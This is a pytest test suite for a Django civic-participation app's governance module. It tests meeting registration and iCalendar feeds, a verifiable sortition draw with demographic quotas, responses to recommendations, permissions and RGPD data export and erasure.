from __future__ import annotations

import datetime
import hashlib
import json
import re
from decimal import Decimal

import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone

from renouveau.core.models import AuditLog
from renouveau.governance import ical, services, sortition
from renouveau.governance.models import (
    Body,
    Candidate,
    ComparisonIndicator,
    ComparisonValue,
    Draw,
    Meeting,
    Membership,
    Partner,
    Place,
    Recommendation,
    Registration,
)

pytestmark = pytest.mark.django_db

CONVENTION = "convention-citoyenne-relance-renouveau"


@pytest.fixture
def reference(plan):
    services.reference_load()
    return {b.code: b for b in Body.objects.all()}


@pytest.fixture
def place(marseille):
    return Place.objects.create(
        name="Maison du Projet", kind="project_house", commune=marseille, address="1 rue A"
    )


def make_meeting(body=None, *, capacity=2, days=7, public=True, place=None, **extra) -> Meeting:
    start = timezone.now().replace(second=0, microsecond=0) + datetime.timedelta(days=days)
    return Meeting.objects.create(
        body=body,
        title=extra.pop("title", "Séance publique"),
        starts_at=start,
        ends_at=start + datetime.timedelta(hours=2),
        place=place,
        location="" if place else "Salle du conseil, Marseille",
        agenda=extra.pop("agenda", "Ordre du jour"),
        is_public=public,
        capacity=capacity if public else None,
        **extra,
    )


# Reference data ------------------------------------------------------------------------------


def test_reference_load_is_idempotent_and_links_the_oecd_agreement(plan):
    services.reference_load()
    services.reference_load()
    assert Body.objects.count() == 4
    assert set(Body.objects.values_list("kind", flat=True)) == set(Body.Kind.values)
    convention = Body.objects.get(code=CONVENTION)
    assert convention.planned_for == "début 2021"
    oecd = Partner.objects.get(code="ocde")
    assert list(oecd.agreements.values_list("code", flat=True)) == ["ocde-2020"]


def test_demo_load_is_idempotent_and_flagged(reference):
    from renouveau.governance import demo

    first = demo.load()
    counts = [
        m.objects.count()
        for m in (Place, Membership, Meeting, Draw, Candidate, Recommendation, ComparisonValue)
    ]
    assert demo.load() == first
    assert counts == [
        m.objects.count()
        for m in (Place, Membership, Meeting, Draw, Candidate, Recommendation, ComparisonValue)
    ]
    assert not Meeting.objects.filter(is_demo=False).exists()
    assert not ComparisonIndicator.objects.filter(is_demo=False).exists()


# iCalendar -----------------------------------------------------------------------------------


def test_ics_escaping_folding_utc_and_stable_uid(reference, place):
    body = reference[CONVENTION]
    meeting = make_meeting(
        body,
        place=place,
        title="Atelier ; budget, mobilités \\ jeunes",
        agenda="Point 1 : l'été\nPoint 2 : " + "é" * 80,
    )
    text = ical.calendar([meeting], name="Test", base_url="https://exemple.fr")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    for line in text.split("\r\n")[:-1]:
        assert len(line.encode("utf-8")) <= 75, line
    unfolded = text.replace("\r\n ", "")
    lines = unfolded.split("\r\n")
    assert lines[0] == "BEGIN:VCALENDAR" and lines[-2] == "END:VCALENDAR"
    assert "VERSION:2.0" in lines and "PRODID:-//Renouveau//Gouvernance//FR" in lines
    assert (
        "SUMMARY:Convention citoyenne de la relance et du renouveau : "
        "Atelier \\; budget\\, mobilités \\\\ jeunes"
    ) in lines
    assert "DESCRIPTION:Point 1 : l'été\\nPoint 2 : " + "é" * 80 in lines
    start = meeting.starts_at.astimezone(datetime.UTC).strftime("%Y%m%dT%H%M%SZ")
    assert f"DTSTART:{start}" in lines
    assert all(not line.startswith("DTSTART") or line.endswith("Z") for line in lines)
    assert f"UID:{meeting.uid}@gouvernance.renouveau" in lines
    assert "LOCATION:Maison du Projet\\, 1 rue A\\, Marseille" in lines
    assert "STATUS:CONFIRMED" in lines and "SEQUENCE:0" in lines
    # No UTF-8 character cut by the folding: every physical line decodes on its own.
    for line in text.split("\r\n"):
        line.encode("utf-8").decode("utf-8")
    # The UID stays when the meeting changes; the sequence goes up; a cancellation shows.
    agent_meeting = services.meeting_update(
        actor=None,
        meeting=meeting,
        data={"title": "Nouveau titre", "place": place, "location": "", "is_public": True},
    )
    services.meeting_cancel(actor=None, meeting=agent_meeting, reason="Intempéries")
    meeting.refresh_from_db()
    again = ical.calendar([meeting], name="Test", base_url="").replace("\r\n ", "")
    assert f"UID:{meeting.uid}@gouvernance.renouveau" in again.split("\r\n")
    assert "SEQUENCE:2" in again and "STATUS:CANCELLED" in again


def test_ics_views_per_meeting_and_per_body(client, reference):
    body = reference[CONVENTION]
    meeting = make_meeting(body)
    make_meeting(reference["conseil-de-developpement"], title="Autre instance")
    response = client.get(reverse("governance:meeting_ics", args=[meeting.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    assert response.content.decode().count("BEGIN:VEVENT") == 1
    feed = client.get(reverse("governance:body_calendar", args=[body.code])).content.decode()
    assert feed.count("BEGIN:VEVENT") == 1 and "Autre instance" not in feed
    everything = client.get(reverse("governance:meetings_calendar")).content.decode()
    assert everything.count("BEGIN:VEVENT") == 2


# Meetings and registrations ------------------------------------------------------------------


def test_registration_confirms_by_email_and_is_exactly_once(
    client, resident, reference, django_capture_on_commit_callbacks
):
    meeting = make_meeting(reference[CONVENTION], capacity=5)
    client.force_login(resident)
    url = reverse("governance:meeting_register", args=[meeting.pk])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url)
    assert response.status_code == 302
    assert len(mail.outbox) == 1 and resident.email in mail.outbox[0].to
    assert "Inscription confirmée" in mail.outbox[0].subject
    assert reverse("governance:meeting_ics", args=[meeting.pk]) in mail.outbox[0].body
    client.post(url)
    assert Registration.objects.filter(meeting=meeting).count() == 1
    assert AuditLog.objects.filter(action="governance.registered").count() == 1
    page = client.get(reverse("governance:meeting", args=[meeting.pk])).content.decode()
    assert "Annuler mon inscription" in page and "4 place(s) libre(s) sur 5" in page
    client.post(reverse("governance:meeting_unregister", args=[meeting.pk]))
    assert not Registration.objects.filter(meeting=meeting).exists()


def test_registrants_hear_of_a_new_date_but_not_of_an_agenda_edit(
    client, personas, reference, place, django_capture_on_commit_callbacks
):
    meeting = make_meeting(reference[CONVENTION], capacity=10, place=place)
    services.registration_create(user=personas["resident"], meeting=meeting)
    mail.outbox.clear()
    client.force_login(personas["metropolis_agent"])
    url = reverse("governance:meeting_edit", args=[meeting.pk])
    form = {
        "body": meeting.body_id,
        "title": meeting.title,
        "starts_at": timezone.localtime(meeting.starts_at).strftime("%Y-%m-%dT%H:%M"),
        "ends_at": timezone.localtime(meeting.ends_at).strftime("%Y-%m-%dT%H:%M"),
        "place": place.pk,
        "agenda": "Ordre du jour complété",
        "is_public": "on",
        "capacity": "10",
    }
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(url, form).status_code == 302
    assert mail.outbox == []
    later = timezone.localtime(meeting.starts_at + datetime.timedelta(days=1))
    form["starts_at"] = later.strftime("%Y-%m-%dT%H:%M")
    form["ends_at"] = (later + datetime.timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M")
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(url, form).status_code == 302
    assert [m.to for m in mail.outbox] == [[personas["resident"].email]]
    assert "Réunion modifiée" in mail.outbox[0].subject
    meeting.refresh_from_db()
    assert meeting.sequence == 2
    assert client.post(url, {**form, "capacity": "0"}).status_code == 400


def test_full_closed_or_past_meetings_refuse_registrations(client, personas, reference):
    full = make_meeting(reference[CONVENTION], capacity=1)
    services.registration_create(user=personas["elected"], meeting=full)
    client.force_login(personas["resident"])
    response = client.post(reverse("governance:meeting_register", args=[full.pk]))
    assert response.status_code == 400
    assert "La réunion est complète." in response.content.decode()
    closed = make_meeting(reference[CONVENTION], public=False)
    with pytest.raises(ValidationError):
        services.registration_create(user=personas["resident"], meeting=closed)
    past = make_meeting(reference[CONVENTION], days=-3)
    with pytest.raises(ValidationError):
        services.registration_create(user=personas["resident"], meeting=past)
    assert client.get(reverse("governance:meeting_register", args=[full.pk])).status_code == 405


def test_cancellation_notifies_registrants(
    client, personas, reference, django_capture_on_commit_callbacks
):
    meeting = make_meeting(reference[CONVENTION], capacity=10)
    for name in ("resident", "elected"):
        services.registration_create(user=personas[name], meeting=meeting)
    mail.outbox.clear()
    client.force_login(personas["metropolis_agent"])
    url = reverse("governance:meeting_cancel", args=[meeting.pk])
    assert client.post(url, {"reason": ""}).status_code == 400
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"reason": "Salle indisponible"})
    assert response.status_code == 302
    assert sorted(m.to[0] for m in mail.outbox) == sorted(
        [personas["resident"].email, personas["elected"].email]
    )
    assert all("Salle indisponible" in m.body for m in mail.outbox)
    meeting.refresh_from_db()
    assert meeting.is_cancelled and not meeting.takes_registrations


def test_agent_announces_a_meeting_with_clear_errors(client, personas, reference, place):
    url = reverse("governance:meeting_create")
    client.force_login(personas["resident"])
    assert client.get(url).status_code == 403
    client.force_login(personas["commune_agent"])
    bad = client.post(
        url,
        {
            "title": "Réunion",
            "starts_at": "2030-05-01T18:00",
            "ends_at": "2030-05-01T17:00",
            "agenda": "x",
            "is_public": "",
            "capacity": "30",
        },
    )
    assert bad.status_code == 400
    content = bad.content.decode()
    assert "La fin doit être après le début." in content
    assert "huis clos ne prend pas d&#x27;inscriptions" in content
    assert "Indiquez un lieu du plan ou une adresse." in content
    ok = client.post(
        url,
        {
            "body": reference[CONVENTION].pk,
            "title": "Réunion",
            "starts_at": "2030-05-01T18:00",
            "ends_at": "2030-05-01T20:00",
            "place": place.pk,
            "agenda": "Ordre du jour",
            "is_public": "on",
            "capacity": "30",
        },
    )
    assert ok.status_code == 302
    meeting = Meeting.objects.get()
    assert meeting.created_by == personas["commune_agent"]
    assert AuditLog.objects.filter(action="governance.meeting_created").exists()


def test_minutes_published_after_the_meeting(client, personas, reference):
    upcoming = make_meeting(reference[CONVENTION])
    past = make_meeting(reference[CONVENTION], days=-2, public=False)
    client.force_login(personas["metropolis_agent"])
    response = client.post(
        reverse("governance:meeting_minutes", args=[upcoming.pk]), {"minutes": "Texte"}
    )
    assert response.status_code == 400
    assert "après la réunion" in response.content.decode()
    client.post(reverse("governance:meeting_minutes", args=[past.pk]), {"minutes": "Décisions."})
    client.post(
        reverse("governance:meeting_document", args=[past.pk]),
        {"title": "Diaporama", "url": "https://exemple.fr/d.pdf"},
    )
    client.logout()
    page = client.get(reverse("governance:meeting", args=[past.pk])).content.decode()
    assert "Décisions." in page and "Diaporama" in page and "Huis clos" in page


@pytest.mark.django_db(transaction=True)
def test_concurrent_registrations_respect_capacity_and_uniqueness(plan, personas, marseille):
    """60 residents register at once from threads, each twice, for 25 seats: exactly 25."""
    from concurrent.futures import ThreadPoolExecutor
    from threading import Barrier

    from django.db import connection, connections

    from conftest import make_user

    if connection.vendor != "postgresql":
        pytest.skip("SQLite serialises writes; this test runs on PostgreSQL (DATABASE_URL).")
    services.reference_load()
    meeting = make_meeting(Body.objects.get(code=CONVENTION), capacity=25)
    users = [make_user(f"r{n}@example.org", commune=marseille) for n in range(60)]
    jobs = [u for u in users for _k in range(2)]
    barrier = Barrier(16)

    def register(user):
        try:
            barrier.wait(timeout=5)
        except Exception:  # noqa: S110 - the barrier only lines threads up
            pass
        try:
            services.registration_create(user=user, meeting=meeting)
            return "ok"
        except ValidationError as exc:
            return exc.code
        except Exception as exc:  # report, do not hide
            return repr(exc)
        finally:
            connections.close_all()

    with ThreadPoolExecutor(max_workers=16) as pool:
        outcomes = list(pool.map(register, jobs))
    assert outcomes.count("ok") == 25, outcomes
    assert set(outcomes) <= {"ok", "full", "already"}
    assert Registration.objects.filter(meeting=meeting).count() == 25
    assert Registration.objects.values("user").distinct().count() == 25


# Sortition -----------------------------------------------------------------------------------


def people(n: int) -> list[sortition.Person]:
    territories = ["mp", "aix", "sal"]
    genders = ["woman", "man"]
    bands = ["16-29", "30-44", "45-59", "60-74"]
    return [
        sortition.Person(
            f"C{n_:04d}", territories[n_ % 3], genders[(n_ // 3) % 2], bands[(n_ // 6) % 4]
        )
        for n_ in range(n)
    ]


QUOTAS = {
    "territory": {"mp": 4, "aix": 2, "sal": 2},
    "gender": {"woman": 4, "man": 4},
    "age_band": {"16-29": 2, "30-44": 2, "45-59": 2, "60-74": 2},
}


def test_sortition_is_reproducible_and_meets_every_quota():
    pool = people(72)
    order, panel = sortition.draw(seed="graine-1", seats=8, quotas=QUOTAS, people=pool)
    again = sortition.draw(seed="graine-1", seats=8, quotas=QUOTAS, people=list(reversed(pool)))
    assert [p.code for p in panel] == [p.code for p in again[1]]
    assert [p.code for p in order] == [p.code for p in again[0]]
    assert len(panel) == 8
    for dimension, values in QUOTAS.items():
        for value, n in values.items():
            assert sum(1 for p in panel if p.value(dimension) == value) == n
    other = sortition.draw(seed="graine-2", seats=8, quotas=QUOTAS, people=pool)[1]
    assert {p.code for p in other} != {p.code for p in panel}
    # The rank is the published rule: SHA-256 of "seed:code".
    assert order[0].code == min(pool, key=lambda p: sortition.rank_key("graine-1", p.code)).code


def test_sortition_takes_the_first_feasible_panel_in_rank_order():
    pool = people(72)
    order, panel = sortition.draw(seed="s", seats=8, quotas=QUOTAS, people=pool)
    # Every candidate ranked before the last one drawn was either drawn or would have broken
    # a quota already full or made the rest impossible: the first one is always drawn.
    assert panel[0] == order[0]
    positions = [order.index(p) for p in panel]
    assert positions == sorted(positions)


def test_sortition_clear_errors_when_quotas_cannot_be_met():
    pool = people(72)
    with pytest.raises(sortition.QuotaError, match="totalisent 7 sièges au lieu de 8"):
        sortition.draw(seed="s", seats=8, quotas={"gender": {"woman": 4, "man": 3}}, people=pool)
    few = [p for p in pool if not (p.territory == "sal")][:30]
    with pytest.raises(sortition.QuotaError, match="seulement 0 candidature"):
        sortition.draw(seed="s", seats=8, quotas=QUOTAS, people=few)
    # Each value has enough candidates on its own, but no panel meets all quotas together.
    tricky = [
        sortition.Person("A1", "mp", "woman", "16-29"),
        sortition.Person("A2", "mp", "woman", "16-29"),
        sortition.Person("B1", "aix", "man", "30-44"),
        sortition.Person("B2", "aix", "man", "30-44"),
    ]
    with pytest.raises(sortition.QuotaError, match="ensemble"):
        sortition.draw(
            seed="s",
            seats=2,
            quotas={"territory": {"mp": 1, "aix": 1}, "gender": {"woman": 2, "man": 0}},
            people=tricky,
        )
    with pytest.raises(sortition.QuotaError, match="pas assez"):
        sortition.draw(seed="s", seats=8, quotas={}, people=pool[:5])


@pytest.fixture
def open_draw(reference, territories):
    return Draw.objects.create(
        body=reference[CONVENTION],
        title="Convention 2026",
        description="Tirage",
        seats=4,
        quotas={
            "territory": {"marseille-provence": 2, "pays-d-aix": 2},
            "gender": {"woman": 2, "man": 2, "other": 0},
        },
        closes_on=timezone.localdate() + datetime.timedelta(days=10),
    )


def add_candidates(draw, n=16):
    from renouveau.territories.models import Commune

    marseille = Commune.objects.get(name="Marseille")
    aix = Commune.objects.get(name="Aix-en-Provence")
    for i in range(n):
        commune = marseille if i % 2 else aix
        Candidate.objects.create(
            draw=draw,
            public_name=f"Personne n°{i:03d}",
            commune=commune,
            territory=commune.territory,
            age_band="30-44",
            gender="woman" if (i // 2) % 2 else "man",
            consented_at=timezone.now(),
        )


def test_resident_volunteers_with_consent_and_minimal_data(client, resident, open_draw, marseille):
    url = reverse("governance:draw", args=[open_draw.pk])
    client.force_login(resident)
    bad = client.post(
        url,
        {"public_name": "Awa B.", "commune": marseille.pk, "age_band": "30-44", "gender": "woman"},
    )
    assert bad.status_code == 400
    assert "Votre accord est nécessaire pour candidater." in bad.content.decode()
    ok = client.post(
        url,
        {
            "public_name": "Awa B.",
            "commune": marseille.pk,
            "age_band": "30-44",
            "gender": "woman",
            "consent": "on",
        },
    )
    assert ok.status_code == 302
    candidate = Candidate.objects.get(user=resident)
    assert candidate.territory == marseille.territory and re.fullmatch(
        r"[0-9A-F]{8}", candidate.code
    )
    page = client.get(url).content.decode()
    assert candidate.code in page and "Retirer ma candidature" in page
    client.post(reverse("governance:draw_withdraw", args=[open_draw.pk]))
    assert not Candidate.objects.exists()


def test_agent_runs_the_draw_and_anyone_can_rerun_it(
    client, personas, open_draw, marseille, tmp_path, capsys, django_capture_on_commit_callbacks
):
    add_candidates(open_draw)
    services.candidate_register(
        user=personas["resident"],
        draw=open_draw,
        data={
            "public_name": "Awa B.",
            "commune": marseille,
            "age_band": "16-29",
            "gender": "woman",
            "consent": True,
        },
    )
    # The server generated the secret seed when the draw was prepared; its fingerprint is
    # public from then on, the seed itself is not.
    committed = open_draw.seed
    assert re.fullmatch(r"[0-9a-f]{32}", committed)
    fingerprint = hashlib.sha256(committed.encode()).hexdigest()
    before = client.get(reverse("governance:draw", args=[open_draw.pk])).content.decode()
    assert fingerprint in before and committed not in before
    url = reverse("governance:draw_run", args=[open_draw.pk])
    client.force_login(personas["resident"])
    assert client.post(url, {"seed": "x"}).status_code == 403
    client.force_login(personas["metropolis_agent"])
    form_page = client.get(url).content.decode()
    assert 'name="seed"' not in form_page and committed not in form_page
    seed = "Loto 2026-01-10 : 4 12 23 35 41"
    early = client.post(url, {"seed": seed})
    assert early.status_code == 400
    assert "Confirmez la clôture anticipée des candidatures." in early.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"seed": seed, "early": "on"})
    assert response.status_code == 302
    open_draw.refresh_from_db()
    # A posted seed is ignored: the committed one is used.
    assert open_draw.status == "drawn" and open_draw.seed == committed
    for message in mail.outbox:
        assert committed not in message.body
    selected = list(Candidate.objects.filter(selected=True))
    assert len(selected) == 4
    assert sum(c.gender == "woman" for c in selected) == 2
    assert sum(c.territory.code == "pays-d-aix" for c in selected) == 2
    assert len(mail.outbox) == 1  # only the resident has an account among the candidates
    log = AuditLog.objects.get(action="governance.draw_run")
    assert log.data["seed"] == open_draw.seed and len(log.data["panel"]) == 4
    assert log.data["closed_early"] is True
    # Published: names of the drawn only; others by code.
    client.logout()
    page = client.get(reverse("governance:draw", args=[open_draw.pk])).content.decode()
    assert committed in page and fingerprint in page  # the seed, and what it is checked against
    for candidate in Candidate.objects.all():
        assert candidate.code in page
        assert (candidate.public_name in page) is candidate.selected
    # The published data re-runs to the same panel.
    data = client.get(reverse("governance:draw_data", args=[open_draw.pk])).json()
    assert {c["code"] for c in data["candidates"] if c["selected"]} == {c.code for c in selected}
    assert all(c["public_name"] is None for c in data["candidates"] if not c["selected"])
    assert data["seed"] == committed and data["seed_fingerprint"] == fingerprint
    assert hashlib.sha256(data["seed"].encode()).hexdigest() == data["seed_fingerprint"]
    path = tmp_path / "donnees.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    assert sortition.main([str(path)]) == 0
    assert set(capsys.readouterr().out.split()) == {c.code for c in selected}
    path.write_text(json.dumps({**data, "seed": "une autre graine"}), encoding="utf-8")
    assert sortition.main([str(path)]) == 1  # a seed that is not the committed one
    # Once only.
    client.force_login(personas["metropolis_agent"])
    with pytest.raises(ValidationError):
        services.draw_run(actor=personas["metropolis_agent"], draw=open_draw)


def test_impossible_quotas_answer_400_with_the_reason(client, personas, open_draw):
    add_candidates(open_draw, n=3)
    client.force_login(personas["metropolis_agent"])
    response = client.post(
        reverse("governance:draw_run", args=[open_draw.pk]), {"seed": "", "early": "on"}
    )
    assert response.status_code == 400
    assert "pas assez pour tirer au sort" in response.content.decode()
    open_draw.refresh_from_db()
    assert open_draw.status == "open"


def test_agent_creates_a_draw_with_quotas_summing_to_seats(client, personas, reference):
    client.force_login(personas["metropolis_agent"])
    url = reverse("governance:draw_create")
    data = {
        "body": reference[CONVENTION].pk,
        "title": "Tirage",
        "description": "x",
        "seats": "4",
        "closes_on": "2030-01-01",
        "q_gender_woman": "2",
        "q_gender_man": "1",
    }
    bad = client.post(url, data)
    assert bad.status_code == 400
    assert "Quotas par genre : le total (3) doit être égal au nombre de sièges." in (
        bad.content.decode()
    )
    ok = client.post(url, {**data, "q_gender_man": "2"})
    assert ok.status_code == 302
    assert Draw.objects.get().quotas == {"gender": {"woman": 2, "man": 2, "other": 0}}


# Recommendations -----------------------------------------------------------------------------


def test_response_requires_a_justification_and_is_public(client, personas, reference):
    body = reference[CONVENTION]
    recommendation = Recommendation.objects.create(
        body=body, number="CC-1", title="Tiers-lieux", text="Ouvrir", made_on=timezone.localdate()
    )
    url = reverse("governance:recommendation_respond", args=[recommendation.pk])
    client.force_login(personas["commune_agent"])
    assert client.get(url).status_code == 403
    client.force_login(personas["metropolis_agent"])
    bad = client.post(url, {"response": "rejected", "response_text": ""})
    assert bad.status_code == 400
    assert "La réponse doit être justifiée" in bad.content.decode()
    client.post(url, {"response": "partial", "response_text": "Deux tiers-lieux en 2026."})
    recommendation.refresh_from_db()
    assert recommendation.response == "partial" and recommendation.responded_on
    client.logout()
    listing = client.get(
        reverse("governance:body_recommendations", args=[body.code]), {"response": "partial"}
    ).content.decode()
    assert "Tiers-lieux" in listing
    other = client.get(reverse("governance:recommendations"), {"response": "adopted"})
    assert "Tiers-lieux" not in other.content.decode()
    assert client.get(reverse("governance:recommendations"), {"response": "x"}).status_code == 400


# Pages, exports, API, permissions, RGPD ------------------------------------------------------


def test_public_pages_answer_with_demo_data(client, reference, django_assert_max_num_queries):
    from renouveau.governance import demo

    demo.load()
    body = reference["comite-gouvernance-renouvelee"]
    pages = [
        reverse("governance:index"),
        reverse("governance:body", args=[body.code]),
        reverse("governance:meetings"),
        reverse("governance:meetings") + "?quand=passees",
        reverse("governance:draws"),
        reverse("governance:draw", args=[Draw.objects.get().pk]),
        reverse("governance:recommendations"),
        reverse("governance:places"),
        reverse("governance:places") + "?territory=pays-d-aix",
        reverse("governance:place", args=[Place.objects.first().pk]),
        reverse("governance:partners"),
        reverse("governance:comparisons"),
        reverse("governance:indicator", args=["taux-emploi"]),
        reverse("governance:meeting", args=[Meeting.objects.first().pk]),
    ]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        assert "Démonstration" in response.content.decode() or url.endswith("partenaires/"), url
    with django_assert_max_num_queries(12):
        client.get(reverse("governance:recommendations"))
    assert client.get(reverse("governance:meetings") + "?quand=hier").status_code == 400
    assert client.get(reverse("governance:meetings") + "?page=x").status_code == 400
    assert client.get(reverse("governance:places") + "?territory=nulle-part").status_code == 400


def test_comparison_exports_and_agent_value(client, personas, reference):
    from renouveau.governance import demo

    demo.load()
    csv_text = client.get(reverse("governance:comparison_export", args=["csv"])).content.decode()
    assert csv_text.startswith("\ufeffindicator;name;unit;year;source;metropolis;value;is_demo")
    assert "taux-emploi;" in csv_text and ";1\r\n" in csv_text
    data = json.loads(client.get(reverse("governance:comparison_export", args=["json"])).content)
    assert all(row["is_demo"] for row in data["results"])
    assert client.get(reverse("governance:comparison_export", args=["xml"])).status_code == 404
    url = reverse("governance:indicator", args=["taux-emploi"])
    assert client.post(url, {"metropolis": "X", "value": "1"}).status_code == 403
    client.force_login(personas["metropolis_agent"])
    assert client.post(url, {"metropolis": "Lyon", "value": "abc"}).status_code == 400
    client.post(url, {"metropolis": "Aix-Marseille-Provence", "value": "61,5", "is_home": "on"})
    value = ComparisonValue.objects.get(
        metropolis="Aix-Marseille-Provence", indicator__code="taux-emploi"
    )
    assert value.value == Decimal("61.5") and not value.is_demo
    page = client.get(url).content.decode()
    assert "<svg" in page and 'role="img"' in page and "61,5" in page


def test_api_lists_public_meetings_only(client, reference):
    public = make_meeting(reference[CONVENTION], capacity=10)
    make_meeting(reference[CONVENTION], public=False, title="Huis clos")
    response = client.get("/api/v1/meetings/")
    assert response.status_code == 200
    results = response.json()["results"]
    assert [r["id"] for r in results] == [public.pk]
    assert results[0]["seats_left"] == 10 and results[0]["body"] == CONVENTION
    assert results[0]["ics_url"].endswith(f"/gouvernance/reunions/{public.pk}/reunion.ics")
    assert client.get("/api/v1/meetings/?when=hier").status_code == 400
    assert client.get("/api/v1/meetings/?body=inconnue").status_code == 400
    schema = client.get("/api/v1/schema/").content.decode()
    assert "/api/v1/meetings/" in schema


@pytest.mark.parametrize(
    ("persona", "manage_meetings", "run_draws"),
    [
        ("resident", False, False),
        ("association_member", False, False),
        ("commune_agent", True, False),
        ("metropolis_agent", True, True),
        ("moderator", False, False),
        ("elected", False, False),
        ("administrator", True, True),
        ("crisis_agent", False, False),
        ("outsider", False, False),
    ],
)
def test_permission_matrix(personas, persona, manage_meetings, run_draws):
    user = personas[persona]
    assert user.has_perm("governance.manage_meetings") is manage_meetings
    assert user.has_perm("governance.run_draws") is run_draws
    assert user.has_perm("governance.manage_recommendations") is run_draws
    assert user.has_perm("governance.register") is True


def test_anonymous_cannot_register_or_volunteer(client, reference, open_draw):
    from django.contrib.auth.models import AnonymousUser

    meeting = make_meeting(reference[CONVENTION])
    response = client.post(reverse("governance:meeting_register", args=[meeting.pk]))
    assert response.status_code == 302 and "/login" in response["Location"]
    assert not AnonymousUser().has_perm("governance.volunteer")
    page = client.get(reverse("governance:draw", args=[open_draw.pk])).content.decode()
    assert "Connectez-vous pour candidater" in page


def test_rgpd_export_and_erasure(personas, reference, open_draw, marseille):
    from renouveau.accounts.signals import personal_data_requested, user_erased

    resident = personas["resident"]
    meeting = make_meeting(reference[CONVENTION])
    services.registration_create(user=resident, meeting=meeting)
    services.candidate_register(
        user=resident,
        draw=open_draw,
        data={
            "public_name": "Awa B.",
            "commune": marseille,
            "age_band": "30-44",
            "gender": "woman",
            "consent": True,
        },
    )
    Membership.objects.create(
        body=reference[CONVENTION],
        public_name="Awa B.",
        college="drawn_resident",
        started_on=timezone.localdate(),
        user=resident,
    )
    sections = dict(r for _f, r in personal_data_requested.send(sender=None, user=resident) if r)
    data = sections["governance"]
    assert data["meeting_registrations"][0]["meeting"] == meeting.title
    assert data["draw_candidacies"][0]["gender"] == "woman"
    # The pseudonymous code under which the candidacy is published is the person's data too.
    assert data["draw_candidacies"][0]["code"] == Candidate.objects.get(user=resident).code
    assert data["memberships"][0]["public_name"] == "Awa B."
    user_erased.send(sender=None, user=resident)
    assert not Registration.objects.exists()
    assert not Candidate.objects.exists()  # the draw has not run: the candidacy goes
    membership = Membership.objects.get()
    assert membership.user is None and membership.public_name == "Awa B."


def test_agent_adds_a_member_and_ends_a_mandate(client, personas, reference, marseille):
    body = reference["conseil-de-developpement"]
    url = reverse("governance:member_add", args=[body.code])
    client.force_login(personas["commune_agent"])
    assert client.get(url).status_code == 403
    client.force_login(personas["metropolis_agent"])
    bad = client.post(
        url,
        {
            "public_name": "Nadia R.",
            "college": "civil_society",
            "started_on": "2026-02-01",
            "ended_on": "2026-01-01",
        },
    )
    assert bad.status_code == 400
    assert "La fin du mandat doit suivre son début." in bad.content.decode()
    data = {
        "public_name": "Nadia R.",
        "college": "civil_society",
        "quality": "présidente",
        "commune": marseille.pk,
        "started_on": "2026-02-01",
    }
    assert client.post(url, data).status_code == 302
    membership = Membership.objects.get()
    page = client.get(reverse("governance:body", args=[body.code])).content.decode()
    assert "Nadia R." in page and "présidente" in page
    yesterday = (timezone.localdate() - datetime.timedelta(days=1)).isoformat()
    edit = reverse("governance:member_edit", args=[body.code, membership.pk])
    assert client.post(edit, {**data, "ended_on": yesterday}).status_code == 302
    page = client.get(reverse("governance:body", args=[body.code])).content.decode()
    assert "Nadia R." not in page
    actions = list(
        AuditLog.objects.filter(action__startswith="governance.membership").values_list(
            "action", flat=True
        )
    )
    assert sorted(actions) == ["governance.membership_created", "governance.membership_updated"]
    other = reference[CONVENTION]
    assert (
        client.get(reverse("governance:member_edit", args=[other.code, membership.pk])).status_code
        == 404
    )


def test_quota_errors_name_the_territory_in_words(client, personas, open_draw):
    from renouveau.territories.models import Commune

    marseille = Commune.objects.get(name="Marseille")
    for i in range(6):
        Candidate.objects.create(
            draw=open_draw,
            public_name=f"M{i}",
            commune=marseille,
            territory=marseille.territory,
            age_band="30-44",
            gender="woman" if i % 2 else "man",
            consented_at=timezone.now(),
        )
    client.force_login(personas["metropolis_agent"])
    response = client.post(
        reverse("governance:draw_run", args=[open_draw.pk]), {"seed": "s", "early": "on"}
    )
    assert response.status_code == 400
    assert (
        "Quota impossible : 2 siège(s) pour « Pays d&#x27;Aix » (Territoire) mais seulement "
        "0 candidature(s)."
    ) in response.content.decode()


def test_my_participation_lists_registrations_and_candidacies(
    client, personas, reference, open_draw, marseille
):
    resident = personas["resident"]
    assert client.get(reverse("governance:my_space")).status_code == 302
    client.force_login(resident)
    empty = client.get(reverse("governance:my_space")).content.decode()
    assert "Vous n'êtes inscrit·e à aucune réunion à venir." in empty
    meeting = make_meeting(reference[CONVENTION], title="Atelier mobilités")
    make_meeting(reference[CONVENTION], title="Autre atelier")
    services.registration_create(user=resident, meeting=meeting)
    candidate = services.candidate_register(
        user=resident,
        draw=open_draw,
        data={
            "public_name": "Awa B.",
            "commune": marseille,
            "age_band": "30-44",
            "gender": "woman",
            "consent": True,
        },
    )
    page = client.get(reverse("governance:my_space")).content.decode()
    assert "Atelier mobilités" in page and "Autre atelier" not in page
    assert candidate.code in page and "tirage à venir" in page


def test_list_pages_query_count_does_not_grow(
    client, reference, place, django_assert_max_num_queries
):
    for n in range(25):
        make_meeting(reference[CONVENTION], place=place, title=f"Réunion {n}")
    with django_assert_max_num_queries(10):
        assert client.get(reverse("governance:meetings")).status_code == 200
    with django_assert_max_num_queries(14):
        assert client.get(reverse("governance:body", args=[CONVENTION])).status_code == 200
    with django_assert_max_num_queries(8):
        assert (
            "BEGIN:VEVENT" in client.get(reverse("governance:meetings_calendar")).content.decode()
        )


def test_registrants_list_for_organisers_only_and_export_logged(client, personas, reference, place):
    # Held at the Maison du Projet in Marseille: the Marseille commune agent runs it.
    meeting = make_meeting(reference[CONVENTION], capacity=10, place=place)
    services.registration_create(user=personas["resident"], meeting=meeting)
    url = reverse("governance:meeting_registrants", args=[meeting.pk])
    client.force_login(personas["resident"])
    assert client.get(url).status_code == 403
    client.force_login(personas["commune_agent"])
    page = client.get(url).content.decode()
    assert "Awa" in page and "habitante@example.org" not in page
    csv_text = client.get(url, {"format": "csv"}).content.decode()
    assert csv_text.startswith("\ufeffNom;E-mail;Commune;Inscrit·e le")
